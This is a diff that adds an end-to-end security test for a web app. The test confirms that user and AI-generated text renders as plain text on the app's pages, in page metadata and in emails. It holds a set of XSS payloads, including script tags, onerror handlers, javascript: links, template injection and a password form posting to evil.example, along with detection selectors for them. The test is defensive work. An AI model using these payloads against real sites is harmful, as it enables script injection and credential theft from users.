@@ -1,0 +1,165 @@
+import { type AiProvider, startAiProvider } from '@squash/testkit/ai-provider'
+import { launchBrowser } from '@squash/testkit/browser'
+import { ada, carla, jonas, maya } from '@squash/testkit/cast'
+import { done, reaches, vote } from '@squash/testkit/conflict-steps'
+import type { Actor } from '@squash/testkit/http'
+import { INVENTING, obeying, TELLING } from '@squash/testkit/obeying'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { linkIn, mailTo } from './support/mail.ts'
+import { mayaAndJonas, signedUp } from './support/people.ts'
+import { type RunningSquash, startSquash } from './support/squash.ts'
+import { complaintsOf, everybodyLeaves, visit } from './support/visitor.ts'
+import { idOf } from './support/world.ts'
+
+/** What each text tries to become on a page; `boom` would be heard. */
+const evil = {
+  first_name: '<img src=x onerror=boom()>',
+  last_name: '"><svg onload=boom()>',
+  title: '</title><script>boom()</script>"><b id=evil>\u202ekeys',
+  message:
+    '<script>boom()</script> <a href="javascript:boom()" id=evil>settle</a> [here](javascript:boom()) ' +
+    '<form action="https://evil.example"><input name=password></form> {{constructor.constructor("boom()")()}}',
+  response: `'"><iframe src="javascript:parent.boom()"></iframe> <base href="https://evil.example/"> &lt;script&gt;boom()`,
+  core1: '</textarea><svg><script>boom()</script></svg><meta http-equiv=refresh content="0;url=https://evil.example">',
+  core2: '<style>@import "https://evil.example/x.css";</style><math><mglyph><style><img src=x onerror=boom()>',
+  side: '<img src=x onerror=boom()>',
+  position:
+    '<object data="https://evil.example/x"></object> https://evil.example/ javascript:boom() <b onclick=boom()>b</b>',
+} as const
+
+let browser: Browser
+let provider: AiProvider
+let squash: RunningSquash
+let people: { maya: Actor; jonas: Actor; ada: Actor }
+let conflict: string
+let debate: string
+let invite: string
+
+beforeAll(async () => {
+  ;[browser, provider] = await Promise.all([launchBrowser(), startAiProvider()])
+  // The model does its part: it repeats what it was given, and brings markup of its own.
+  const manners = [
+    TELLING['repeats the last that somebody wrote'],
+    INVENTING['writes HTML'],
+    INVENTING['writes Markdown with links'],
+  ]
+  provider.always(obeying(manners.flatMap((manner) => (manner ? [manner] : []))))
+  squash = await startSquash({ AI_BASE_URL: provider.baseUrl, AI_MODEL: 'obedient' })
+  people = { ...(await mayaAndJonas(squash)), ada: await signedUp(squash, ada) }
+  const { maya: m, jonas: j } = people
+  const { first_name, last_name, title } = evil
+  for (const { call } of [m, j]) await done(call('update_profile', { first_name, last_name }))
+
+  const start = (user2_email: string) =>
+    done(
+      m.call('create_conflict', { title, user2_email, user1_mood: 'rage', user1_raw_message: evil.message, ...sent }),
+    )
+  conflict = (await start(jonas.email)).id
+  const about = { p_conflict_id: conflict }
+  await done(j.call('respond_to_conflict', { ...about, user2_raw_message: evil.response, ...sent }))
+  await reaches(m, conflict, 'vote_1')
+  await vote(m, conflict, false)
+  await reaches(m, conflict, 'vote_2')
+  await vote(j, conflict, false)
+  await reaches(m, conflict, 'core_issues')
+  await done(m.call('submit_core_issue', { ...about, core_issue: evil.core1, ...sent }))
+  await done(j.call('submit_core_issue', { ...about, core_issue: evil.core2, ...sent }))
+  await reaches(m, conflict, 'vote_3')
+  await done(m.call('request_final_ruling', about))
+  await reaches(m, conflict, 'ruled')
+  await done(j.call('set_ruling_name_shown', { ...about, shown: true }))
+
+  await start(carla.email)
+  invite = new URL(linkIn(await mailTo(squash, carla.email, /settle/), '/invite/')).pathname
+  const argued = {
+    title,
+    creator_side: evil.side,
+    creator_position: evil.position,
+    opponent_side: evil.side,
+    opponent_email: jonas.email,
+    ...sent,
+  }
+  debate = (await done(m.call('create_debate', argued))).id
+  await done(j.call('respond_to_debate_invite', { p_debate_id: debate, p_position: evil.position, ...sent }))
+})
+afterEach(() => everybodyLeaves(browser))
+afterAll(async () => {
+  await browser.close()
+  await squash.stop()
+  await provider.close()
+})
+
+/** Whatever the safety screen thinks of it. */
+const sent = { safety_acknowledged: true }
+
+/** What stands on the page that nobody but a text could have brought. */
+const foreign = (page: Page): Promise<string[]> =>
+  page.evaluate(() => {
+    const unexpected = document.querySelectorAll(
+      [
+        '#evil, iframe, object, embed, base, math, textarea[name], meta[http-equiv="refresh"], [src="x"]',
+        'script:not([src^="/"]), [href^="javascript:" i], [action^="http"], [href*="evil.example"], [src*="evil.example"]',
+      ].join(),
+    )
+    const handlers = [...document.querySelectorAll('*')].filter((element) =>
+      element.getAttributeNames().some((name) => name.startsWith('on')),
+    )
+    return [...unexpected, ...handlers].map((element) => element.outerHTML.slice(0, 200))
+  })
+
+describe('what people write is text, and nothing else', () => {
+  const pages: readonly (readonly [string, () => string, keyof typeof people | null, string])[] = [
+    ['their dashboard', () => '/dashboard', 'maya', '<b id=evil>'],
+    ['the history', () => '/history', 'jonas', '<b id=evil>'],
+    ['the conflict, for who started it', () => `/conflict/${conflict}`, 'maya', '<b id=evil>'],
+    ['the conflict, for who answered', () => `/conflict/${conflict}`, 'jonas', '<b id=evil>'],
+    ['the public board', () => '/public-shame', null, '<b id=evil>'],
+    ['the debate, for a stranger', () => `/debates/${debate}`, 'ada', '<b id=evil>'],
+    ['the debates', () => '/debates', 'ada', '<b id=evil>'],
+    ['the own profile', () => '/profile', 'maya', 'onerror=boom()'],
+    ["somebody's profile", () => `/user-profile/${idOf(people.maya)}`, 'jonas', 'onerror=boom()'],
+    ['the leaderboard', () => '/leaderboard', 'ada', 'onerror=boom()'],
+    ['the invite page', () => invite, null, 'What happens'],
+  ]
+
+  it.each(pages)('on %s', async (_, path, who, shows) => {
+    const page = await visit(browser, squash.url, who ? { as: people[who] } : {})
+    const heard: string[] = []
+    await page.exposeFunction('boom', () => heard.push('boom'))
+    page.on('dialog', (dialog) => {
+      heard.push(dialog.message())
+      void dialog.dismiss()
+    })
+    page.on('request', (request) => {
+      if (!request.url().startsWith(squash.url) && !request.url().startsWith('data:')) heard.push(request.url())
+    })
+    await page.goto(path())
+    await page.getByRole('heading', { level: 1 }).waitFor()
+    await page.getByText(shows).filter({ visible: true }).first().waitFor()
+    expect(await foreign(page)).toEqual([])
+    expect(await page.title()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
+    expect(heard).toEqual([])
+    // A policy that had to step in would have been written down here.
+    expect(complaintsOf(page)).toEqual([])
+  })
+
+  it('in the head of a page whose link is passed around', async () => {
+    const html = await (await fetch(`${squash.url}/debates/${debate}`, { headers: { accept: 'text/html' } })).text()
+    expect(html).toContain('og:title')
+    const head = html.slice(0, html.indexOf('</head>'))
+    expect(head.match(/<script/g)?.length).toBe(head.match(/<script[^>]+src="\//g)?.length)
+    expect(head).not.toMatch(/boom\(\)<|<b |<img|<svg|\u202e/)
+  })
+
+  it('in a mail, in whose markup no name or title ends', async () => {
+    for (const { email } of [carla, jonas, maya]) {
+      const mails = await squash.mails(email)
+      expect(mails.length).toBeGreaterThan(0)
+      for (const { html, subject } of mails) {
+        expect(html).not.toMatch(/<script|<svg|<img|<b id|<iframe|onerror=|javascript:|evil\.example/i)
+        expect(subject).not.toMatch(/[\p{Cc}\u202a-\u202e]/u)
+      }
+    }
+  })
+})
